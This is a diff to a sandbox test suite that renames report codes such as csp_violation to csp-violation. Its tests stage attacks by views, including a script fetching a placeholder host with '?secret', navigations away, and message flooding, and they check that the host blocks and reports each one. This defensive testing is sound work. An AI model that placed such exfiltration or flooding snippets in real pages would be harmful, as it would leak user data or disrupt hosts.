@@ -45,10 +45,10 @@ describe("S12: the host receives", () => {
     expect((await shown.reports()).filter(({ code }) => code !== "painted")).toEqual([{ code: "loaded" }]);
   });
 
-  it("csp_violation, of a script that runs before anything else, with its line", async () => {
+  it("csp-violation, of a script that runs before anything else, with its line", async () => {
     const shown = await show(`<!doctype html>\n<script>fetch("https://undeclared.example/?secret")</script>`);
-    expect(await shown.untilReported("csp_violation")).toEqual({
-      code: "csp_violation",
+    expect(await shown.untilReported("csp-violation")).toEqual({
+      code: "csp-violation",
       by: "view",
       directive: "connect-src",
       blocked: "https://undeclared.example/?secret",
@@ -57,12 +57,12 @@ describe("S12: the host receives", () => {
     });
   });
 
-  it("script_error, thrown and rejected, with the line and column of the document", async () => {
+  it("script-error, thrown and rejected, with the line and column of the document", async () => {
     const shown = await show(
       `<!doctype html>\n<script>\nPromise.reject(new Error("rejected"));\n  throw new Error("thrown")</script>`,
     );
-    await until(async () => expect(await shown.reports("script_error")).toHaveLength(2));
-    const told = (await shown.reports("script_error")).map(({ message, place }) => `${message} ${place}`);
+    await until(async () => expect(await shown.reports("script-error")).toHaveLength(2));
+    const told = (await shown.reports("script-error")).map(({ message, place }) => `${message} ${place}`);
     expect(told.toSorted()).toEqual(["Uncaught Error: thrown document:4:9", "rejected document:3:16"]);
   });
 
@@ -87,23 +87,23 @@ describe("S12: the host receives", () => {
 
   it("no more than 50 of those from one document", async () => {
     const shown = await show(app("for (let i = 0; i < 200; i++) setTimeout(() => { throw i })"));
-    await until(async () => expect(await shown.reports("script_error")).toHaveLength(50));
+    await until(async () => expect(await shown.reports("script-error")).toHaveLength(50));
     await run(
       shown,
       'setTimeout(() => { throw 1 }); setTimeout(() => parent.postMessage({ method: "last" }, "*"))',
     );
     await shown.untilHeard("last");
-    expect(await shown.reports("script_error")).toHaveLength(50);
+    expect(await shown.reports("script-error")).toHaveLength(50);
   });
 
-  it("load_failed, when the document is gone", async () => {
+  it("load-failed, when the document is gone", async () => {
     const html = app("// evicted");
     const { src } = await stage.served.sandbox.register({ server: "test", html });
     // Not when the proxy is read, but later.
     gone.set(new URL(src).pathname.slice(1), 1);
     const shown = await stage.show({ html }, { port: true, src: `${src}#later` });
-    await shown.untilReported("load_failed");
-    expect(await shown.reports()).toEqual([{ code: "load_failed" }]);
+    await shown.untilReported("load-failed");
+    expect(await shown.reports()).toEqual([{ code: "load-failed" }]);
   });
 
   it("escape, unless the app has a use for it", async () => {
@@ -157,12 +157,12 @@ describe("attack A23: a view that leaves", () => {
     ["to data:", () => 'location.href = "data:text/html,hello"'],
     ["to a page that its own origin does not have", (own: string) => `location.href = "${own}/nothing"`],
     ["to its own address with a query", () => 'location.href = location.href + "?secret"'],
-  ])("%s: arrives nowhere, and the host gets navigated_away", async (_where, script) => {
+  ])("%s: arrives nowhere, and the host gets navigated-away", async (_where, script) => {
     hits = 0;
     const shown = await show(app());
     await shown.untilReported("loaded");
     await run(shown, script(shown.registered.viewOrigin, other.origin()));
-    await shown.untilReported("navigated_away");
+    await shown.untilReported("navigated-away");
     expect(hits).toBe(0);
     const [frame] = (await shown.proxy()).childFrames();
     expect(frame?.url()).toBe("chrome-error://chromewebdata/");
@@ -171,9 +171,9 @@ describe("attack A23: a view that leaves", () => {
 
   it("before it has loaded: the host gets the same", async () => {
     const shown = await show(app('location.href = "/nothing";'));
-    await shown.untilReported("navigated_away");
+    await shown.untilReported("navigated-away");
     // It may have loaded while leaving; the last report is that it left.
-    expect((await shown.reports()).at(-1)).toEqual({ code: "navigated_away" });
+    expect((await shown.reports()).at(-1)).toEqual({ code: "navigated-away" });
   });
 
   it("while it reports a start: the host gets the same", async () => {
@@ -181,7 +181,7 @@ describe("attack A23: a view that leaves", () => {
     await shown.untilReported("loaded");
     const began = '{ jsonrpc: "2.0", method: "ui/notifications/sandbox-started", params: {} }';
     await run(shown, `setInterval(() => parent.postMessage(${began}, "*")); location.href = "/nothing";`);
-    await shown.untilReported("navigated_away");
+    await shown.untilReported("navigated-away");
   });
 
   it("and one that reloads itself has not left", async () => {
@@ -191,7 +191,7 @@ describe("attack A23: a view that leaves", () => {
     await until(async () => expect(await shown.reports("loaded")).toHaveLength(2));
     await run(shown, 'parent.postMessage({ method: "back" }, "*")');
     await shown.untilHeard("back");
-    expect(await shown.reports("navigated_away")).toEqual([]);
+    expect(await shown.reports("navigated-away")).toEqual([]);
   });
 });
 
@@ -202,9 +202,9 @@ it("S12: a view that rewrites its document has not left, and its messages still 
   await until(async () => expect(await shown.reports("loaded")).toHaveLength(2));
   expect(await (await shown.view()).evaluate(() => document.title)).toBe("anew");
   await run(shown, 'setTimeout(() => { throw new Error("thrown") })');
-  await shown.untilReported("script_error");
-  expect(await shown.reports("script_error")).toHaveLength(1);
-  expect(await shown.reports("navigated_away")).toEqual([]);
+  await shown.untilReported("script-error");
+  expect(await shown.reports("script-error")).toHaveLength(1);
+  expect(await shown.reports("navigated-away")).toEqual([]);
 });
 
 describe("attack D03: a view that sends too much", () => {
@@ -241,7 +241,7 @@ describe("attack D03: a view that sends too much", () => {
     expect(told.length).toBeLessThanOrEqual(1 + took / 1250);
   });
 
-  it("too_large: a giant message stays in its own process; its id is reported, so that it can be answered", async () => {
+  it("too-large: a giant message stays in its own process; its id is reported, so that it can be answered", async () => {
     const shown = await show(app());
     await run(shown, 'parent.postMessage({ id: 9, method: "tools/call", params: "x".repeat(33e6) }, "*")');
     await run(
@@ -251,12 +251,12 @@ describe("attack D03: a view that sends too much", () => {
     await run(shown, 'parent.postMessage({ id: "x".repeat(33e6), method: "m" }, "*")');
     const method = "ui/notifications/sandbox-report";
     await run(shown, `parent.postMessage({ method: "${method}", params: { code: "x".repeat(20000) } }, "*")`);
-    await until(async () => expect(await shown.reports("too_large")).toHaveLength(4));
-    expect(await shown.reports("too_large")).toEqual([
-      { code: "too_large", id: 9, method: "tools/call" },
-      { code: "too_large", id: "t", method: "m" },
-      { code: "too_large", method: "m" },
-      { code: "too_large", method },
+    await until(async () => expect(await shown.reports("too-large")).toHaveLength(4));
+    expect(await shown.reports("too-large")).toEqual([
+      { code: "too-large", id: 9, method: "tools/call" },
+      { code: "too-large", id: "t", method: "m" },
+      { code: "too-large", method: "m" },
+      { code: "too-large", method },
     ]);
     for (const { message } of await shown.heard()) expect(JSON.stringify(message).length).toBeLessThan(1000);
   });
